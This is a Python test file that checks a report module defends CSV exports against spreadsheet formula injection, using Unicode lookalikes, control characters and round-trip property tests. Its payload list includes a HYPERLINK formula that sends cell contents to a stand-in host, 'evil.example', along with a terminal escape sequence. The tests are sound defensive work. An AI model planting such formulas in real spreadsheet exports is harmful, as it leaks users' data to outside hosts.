"""The cells of a report: safe to open in a spreadsheet, and the same again for a program."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bulkops.report import cells
from bulkops.states import JobState
from tests.reports import OURS, as_it_was, parsed, rows, stored, written

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    "\nplain",
    "  =1+1",
    "\u00a0=1",
    "\u3000＝1",  # noqa: RUF001
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠A1",  # noqa: RUF001
    "﹦1",
    "'=1",
    "''@A1",
    "-5 %",
    "+49 30 1",
    "-",
    "=",
    "-1e",
    "-\N{ARABIC-INDIC DIGIT FIVE}",
]

INNER = ["a;=1+1", "a;  @A1", "a\n=1", "a\r\n+1", "a\t-1", "a;'=1", ";＝1"]  # noqa: RUF001

HARMLESS = ["-5", "+3.2e4", "-.5", "+1.", "5", "a=1", "'quoted'", "a,=1", "x - y", "", "a;b", "e-mail@example.org"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_a_formula_is_given_an_apostrophe(text):
    assert cells.safe(text).startswith("'")
    assert as_it_was(cells.safe(text)) == text


@pytest.mark.parametrize("text", INNER)
def test_what_would_begin_one_in_a_spreadsheet_that_splits_the_cell_is_too(text):
    assert cells.safe(text) != text
    assert as_it_was(cells.safe(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_harmless_texts_stay_as_they_are(text):
    assert cells.safe(text) == text


@pytest.mark.parametrize("text", ["a\x00b", "\x1b]0;title\x07", "a\x7f", "\x9b31m"])
def test_control_characters_are_replaced_but_for_programs(owner, text):
    job = stored(owner, [text])
    assert not {"\x00", "\x07", "\x1b", "\x7f", "\x9b"} & set(written(job))
    assert rows(job, raw=True)[0]["item"] == text


HOSTILE = [
    *FORMULAS,
    *INNER,
    'say "hello"',
    "a,b;c\td",
    "two\nlines",
    "two\r\nlines",
    '"',
    '""",',
    "😀 👩‍👩‍👧",
    "שלום \u202eevil\u202c",
    "x" * 33_000,
    "ends with \\",
    " spaces ",
    "null",
]


def test_a_hostile_table_comes_back_cell_by_cell(owner):
    items = [{"=name": text, text[:200]: "value"} for text in HOSTILE]
    told = {
        n: {"state": "failed", "error_code": text[:100], "message": text[:2_000], "result": {"said": text}}
        for n, text in enumerate(HOSTILE)
    }
    job = stored(owner, items, told, state=JobState.COMPLETED_WITH_ERRORS)
    text = written(job)
    table = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert {len(line) for line in table} == {len(table[0])}
    assert not [cell for line in table for cell in line if cells.safe(as_it_was(cell)) != cell]
    found = parsed(text)
    assert [as_it_was(row["'=name"]) for row in found] == HOSTILE
    assert [as_it_was(row["error_code"]) for row in found] == [text[:100] for text in HOSTILE]
    assert [as_it_was(row["message"]) for row in found] == [text[:2_000] for text in HOSTILE]
    assert [json.loads(as_it_was(row["result"]))["said"] for row in found] == HOSTILE
    raw = rows(job, raw=True)
    assert [row["=name"] for row in raw] == HOSTILE
    assert [row[text[:200]] for row, text in zip(raw, HOSTILE, strict=True)] == ["value"] * len(HOSTILE)


def test_the_mark_for_excel_is_written_on_request_only(owner):
    job = stored(owner, ["ä"])
    assert written(job, bom=True) == "\ufeff" + written(job)
    assert not written(job).startswith("\ufeff")


TEXTS = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=12)

CLEAN = st.text(st.characters(exclude_categories=("Cs", "Cc"), include_characters="\t\r\n=;'-"), max_size=12)

VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**20), 10**20) | st.floats(allow_nan=False, allow_infinity=False),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=6,
)

AS_OFTEN = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)


@pytest.mark.slow
@AS_OFTEN
@given(items=st.lists(st.dictionaries(TEXTS, TEXTS, max_size=4), max_size=12))
def test_rows_of_texts_come_back_to_a_program_as_they_were_given(owner, items):
    found = rows(stored(owner, items), raw=True)
    given = [{name: text for name, text in item.items() if text} for item in items]
    back = []
    for row in found:
        named = {name: text for name, text in row.items() if name not in OURS and text}
        back.append({name.removeprefix("input."): text for name, text in named.items()})
    assert back == given


@pytest.mark.slow
@AS_OFTEN
@given(items=st.lists(CLEAN, max_size=12))
def test_texts_come_back_from_the_safe_report_too(owner, items):
    assert [as_it_was(row["item"]) for row in rows(stored(owner, items))] == items


@pytest.mark.slow
@AS_OFTEN
@given(items=st.lists(VALUES.filter(lambda value: value is not None), min_size=1, max_size=8), raw=st.booleans())
def test_values_come_back_as_json(owner, items, raw):
    found = rows(stored(owner, [[item] for item in items]), raw=raw)
    text = json.dumps(items, ensure_ascii=False)
    if raw or not any(127 <= ord(char) < 160 for char in text):
        assert [json.loads(as_it_was(row["item"])) for row in found] == [[item] for item in items]
